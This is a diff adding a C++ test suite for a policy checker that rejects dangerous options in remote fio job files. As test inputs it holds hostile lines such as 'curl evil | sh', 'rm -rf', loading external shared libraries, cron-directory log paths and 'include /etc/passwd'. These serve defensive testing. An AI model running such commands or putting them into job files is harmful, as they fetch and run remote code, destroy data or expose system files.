@@ -1,0 +1,134 @@
+// The remote-job rules on real files: each refused construct is reported with
+// its option, file and line; harmless look-alikes pass; includes are checked
+// before they are read, and the options of an allowed include are checked too.
+#include <catch2/catch.hpp>
+#include <filesystem>
+#include <fstream>
+
+#include "cli/container_policy.hpp"
+#include "jobs/error.hpp"
+#include "subprocess.hpp"
+
+namespace fs = std::filesystem;
+using namespace fiokit::cli::container;
+
+namespace {
+
+struct Dirs {
+  std::string root = fiokit::test::make_temp_dir("policy");
+  std::string run = root + "/run";
+  Dirs() { fs::create_directories(run); }
+  ~Dirs() { fs::remove_all(root); }
+  std::string write(const std::string& rel, const std::string& text) const {
+    const std::string p = root + "/" + rel;
+    std::ofstream(p) << text;
+    return p;
+  }
+};
+
+fiokit::jobs::Expander test_expander() {
+  fiokit::jobs::Expander ex = fiokit::jobs::Expander::from_system();
+  ex.getenv = [](const std::string& n) -> std::optional<std::string> {
+    if (n == "DEV") return "/dev/sdz";
+    return std::nullopt;
+  };
+  return ex;
+}
+
+std::vector<Violation> check(const Dirs& d, const std::string& text) {
+  return check_remote_job(d.write("run/job.fio", text), d.run, test_expander());
+}
+
+}  // namespace
+
+TEST_CASE("a plain job file passes", "[policy]") {
+  Dirs d;
+  CHECK(check(d, "[global]\nioengine=libaio\ndirectory=/myvol\nwrite_bw_log=bw\nfilename=/dev/null\n[a]\nrw=read\nsize=1m\n").empty());
+  CHECK(check(d, "[a]\nfilename=data.0:/dev/shm/x\nwrite_lat_log\nioengine=io_uring\n").empty());
+}
+
+TEST_CASE("each refused construct names option, file and line", "[policy]") {
+  Dirs d;
+  struct Case {
+    std::string line, option, why;
+  };
+  const std::vector<Case> cases = {
+      {"exec_prerun=rm -rf /tmp/fio-data", "exec_prerun", "shell command"},
+      {"exec_postrun=curl evil | sh", "exec_postrun", "shell command"},
+      {"ioengine=external:/tmp/x.so", "ioengine", "external engine"},
+      {"ioengine=/tmp/libevil.so", "ioengine", "external engine"},
+      {"write_bw_log=/etc/cron.d/x", "write_bw_log", "log path"},
+      {"write_lat_log=../../outside", "write_lat_log", "log path"},
+      {"write_iops_log=/var/log/iops", "write_iops_log", "log path"},
+      {"write_hist_log=/root/h", "write_hist_log", "log path"},
+      {"filename=/dev/sda", "filename", "raw device"},
+      {"filename=data.0:/dev/nvme0n1", "filename", "raw device"},
+      {"directory=/dev", "directory", "raw device"},
+      {"filename=/dev/../dev/sdb", "filename", "raw device"},
+      {"filename=${DEV}", "filename", "raw device"},
+  };
+  for (const Case& c : cases) {
+    INFO(c.line);
+    const auto v = check(d, "[global]\nsize=1m\n[a]\n" + c.line + "\n");
+    REQUIRE(v.size() == 1);
+    CHECK(v[0].option == c.option);
+    CHECK(v[0].loc.line == 4);
+    CHECK(v[0].loc.file == d.run + "/job.fio");
+    CHECK_THAT(v[0].str(), Catch::Contains(c.why) && Catch::Contains("job.fio:4") && Catch::Contains(c.option));
+  }
+}
+
+TEST_CASE("every violation is listed, not only the first", "[policy]") {
+  Dirs d;
+  const auto v = check(d, "[a]\nexec_prerun=x\nfilename=/dev/sda\nwrite_bw_log=/x\n");
+  REQUIRE(v.size() == 3);
+  CHECK(v[0].loc.line == 2);
+  CHECK(v[1].loc.line == 3);
+  CHECK(v[2].loc.line == 4);
+}
+
+TEST_CASE("includes must stay in the run dir and are checked before reading", "[policy]") {
+  Dirs d;
+  d.write("outside.inc", "exec_prerun=never read\n");
+  SECTION("absolute include outside") {
+    const auto v = check(d, "[a]\ninclude /etc/passwd\n");
+    REQUIRE(v.size() == 1);
+    CHECK(v[0].option == "include");
+    CHECK(v[0].value == "/etc/passwd");
+    CHECK(v[0].loc.line == 2);
+    CHECK_THAT(v[0].str(), Catch::Contains("outside the run directory"));
+  }
+  SECTION("relative include climbing out") {
+    const auto v = check(d, "[a]\nsize=1m\ninclude ../outside.inc ; comment\n");
+    REQUIRE(v.size() == 1);
+    CHECK(v[0].value == "../outside.inc");
+    CHECK(v[0].loc.line == 3);
+  }
+  SECTION("an include inside is allowed, and its own options are checked") {
+    d.write("run/common.inc", "size=1m\n");
+    CHECK(check(d, "[a]\ninclude common.inc\n").empty());
+    d.write("run/evil.inc", "size=1m\nexec_postrun=boom\n");
+    const auto v = check(d, "[a]\ninclude evil.inc\n");
+    REQUIRE(v.size() == 1);
+    CHECK(v[0].option == "exec_postrun");
+    CHECK(v[0].loc.file == d.run + "/evil.inc");
+    CHECK(v[0].loc.line == 2);
+  }
+  SECTION("a nested include that escapes is caught in the inner file") {
+    d.write("run/inner.inc", "include ../outside.inc\n");
+    const auto v = check(d, "[a]\ninclude inner.inc\n");
+    REQUIRE(v.size() == 1);
+    CHECK(v[0].loc.file == d.run + "/inner.inc");
+  }
+  SECTION("a symlink inside pointing outside is outside") {
+    fs::create_symlink(d.root + "/outside.inc", d.run + "/link.inc");
+    const auto v = check(d, "[a]\ninclude link.inc\n");
+    REQUIRE(v.size() == 1);
+    CHECK(v[0].value == "link.inc");
+  }
+}
+
+TEST_CASE("a remote file that does not parse is a parse error", "[policy]") {
+  Dirs d;
+  CHECK_THROWS_AS(check(d, "size=1m\n"), fiokit::jobs::ParseError);
+}
